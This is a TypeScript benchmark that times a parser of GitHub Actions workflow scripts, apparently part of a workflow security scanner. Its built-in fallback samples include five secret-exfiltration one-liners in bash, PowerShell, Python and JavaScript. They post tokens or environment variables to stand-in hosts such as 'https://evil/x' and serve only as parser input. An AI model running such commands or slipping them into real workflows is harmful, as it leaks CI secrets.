/**
 * Script parsing speed: parses every `run:` block and github-script `script:` of the real-world workflow corpus
 * (shared/corpus/realworld, else a small built-in mix) and prints scripts/s, p50/p99 per script and the one-time
 * grammar load times. Run directly: `node --import tsx bench/scripts-parse.ts`.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'yaml';
import { grammarLoadTimes, parseScript, shellLanguage } from '../src/scripts/index.js';
import type { Language } from '../src/scripts/types.js';

interface Sample {
  text: string;
  language: Language;
}

const CORPUS_CANDIDATES = [
  join(fileURLToPath(new URL('.', import.meta.url)), '..', '..', 'shared', 'corpus', 'realworld'),
  '/work/shared/corpus/realworld',
];

const BUILT_IN: Sample[] = [
  { language: 'bash', text: 'curl -s -d "token=${{ secrets.PYPI_API_TOKEN }}" https://example.invalid\n' },
  { language: 'bash', text: 'echo $T | base64 | curl -X POST --data-binary @- http://x\nnpm ci\nnpm test\n' },
  { language: 'powershell', text: 'iwr -Uri https://x -Method Post -Body $env:T\n' },
  { language: 'python', text: 'import requests, os\nrequests.post("https://x", data=os.environ["T"])\n' },
  { language: 'javascript', text: "await github.request('POST https://evil/x', {data: process.env})\n" },
];

function record(v: unknown): Record<string, unknown> | undefined {
  return v !== null && typeof v === 'object' && !Array.isArray(v)
    ? (v as Record<string, unknown>)
    : undefined;
}

/** `run:` blocks with the language their shell implies; github-script `script:` inputs as javascript. */
export function extractScripts(workflow: unknown): Sample[] {
  const out: Sample[] = [];
  const wf = record(workflow);
  const wfShell = record(record(wf?.defaults)?.run)?.shell;
  for (const job of Object.values(record(wf?.jobs) ?? {})) {
    const j = record(job);
    const runsOn = JSON.stringify(j?.['runs-on'] ?? '');
    const jobShell = record(record(j?.defaults)?.run)?.shell ?? wfShell;
    for (const step of Array.isArray(j?.steps) ? (j.steps as unknown[]) : []) {
      const s = record(step);
      if (!s) continue;
      if (typeof s.run === 'string') {
        const shell = s.shell ?? jobShell;
        const language =
          typeof shell === 'string' ? shellLanguage(shell) : /windows/i.test(runsOn) ? 'powershell' : 'bash';
        out.push({ text: s.run, language });
      }
      const script = record(s.with)?.script;
      if (
        typeof s.uses === 'string' &&
        s.uses.startsWith('actions/github-script') &&
        typeof script === 'string'
      ) {
        out.push({ text: script, language: 'javascript' });
      }
    }
  }
  return out;
}

function loadSamples(): { samples: Sample[]; source: string } {
  const dir = CORPUS_CANDIDATES.find((d) => existsSync(d));
  if (!dir) return { samples: BUILT_IN, source: 'built-in mix' };
  const samples: Sample[] = [];
  let files = 0;
  for (const name of readdirSync(dir).sort()) {
    if (!/\.ya?ml$/.test(name)) continue;
    files++;
    try {
      samples.push(...extractScripts(parse(readFileSync(join(dir, name), 'utf8'), { maxAliasCount: 100 })));
    } catch {
      // Malformed YAML in the corpus is not this benchmark's concern.
    }
  }
  return { samples, source: `${files} workflows in ${dir}` };
}

function percentile(sorted: number[], p: number): number {
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))] ?? 0;
}

export async function benchScriptParse(): Promise<void> {
  const { samples, source } = loadSamples();
  const byLanguage = new Map<string, number>();
  for (const s of samples) byLanguage.set(s.language, (byLanguage.get(s.language) ?? 0) + 1);
  console.log(`script parsing: ${samples.length} scripts from ${source}`);
  console.log(`  languages: ${[...byLanguage].map(([l, n]) => `${l} ${n}`).join(', ')}`);

  // First pass: loads each grammar once (timed separately) and warms the JIT.
  const t0 = performance.now();
  let ops = 0;
  let errors = 0;
  for (const s of samples) {
    const script = await parseScript(s.text, s.language);
    ops += script.ops.length;
    errors += script.errors.length;
  }
  const firstPass = performance.now() - t0;
  const loads = grammarLoadTimes();
  console.log(
    `  one-time loads: ${Object.entries(loads)
      .map(([k, v]) => `${k} ${v.toFixed(0)} ms`)
      .join(', ')}`,
  );
  console.log(`  first pass (incl. loads): ${firstPass.toFixed(0)} ms; ${ops} ops, ${errors} error entries`);

  // Several rounds: V8 keeps optimising the WebAssembly and the walkers for a while, so the last rounds show the
  // steady state of a long scan. Wall time suffers when other processes share the cores; CPU time shows the
  // parser's own cost (including V8's background compiler threads).
  const rounds = 6;
  const times: number[] = [];
  const cpuPerRound: number[] = [];
  const start = performance.now();
  for (let r = 0; r < rounds; r++) {
    const cpu0 = process.cpuUsage();
    for (const s of samples) {
      const a = performance.now();
      await parseScript(s.text, s.language);
      times.push(performance.now() - a);
    }
    const cpu = process.cpuUsage(cpu0);
    cpuPerRound.push((cpu.user + cpu.system) / 1000);
  }
  const total = performance.now() - start;
  times.sort((a, b) => a - b);
  const perSecond = (times.length / total) * 1000;
  console.log(
    `  warm (${rounds} rounds, wall): ${perSecond.toFixed(0)} scripts/s; p50 ${percentile(times, 50).toFixed(3)} ms, ` +
      `p99 ${percentile(times, 99).toFixed(3)} ms, max ${(times[times.length - 1] ?? 0).toFixed(3)} ms per script`,
  );
  const best = Math.min(...cpuPerRound);
  console.log(
    `  CPU per round: ${cpuPerRound.map((c) => c.toFixed(0)).join(', ')} ms; steady state ` +
      `${((samples.length / best) * 1000).toFixed(0)} scripts per CPU-second (${((best / samples.length) * 1000).toFixed(0)} µs per script)`,
  );
  const bytes = samples.reduce((n, s) => n + s.text.length, 0);
  console.log(
    `  throughput: ${((bytes * rounds) / 1024 / (total / 1000)).toFixed(0)} KiB/s of script text (wall)`,
  );
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  await benchScriptParse();
}
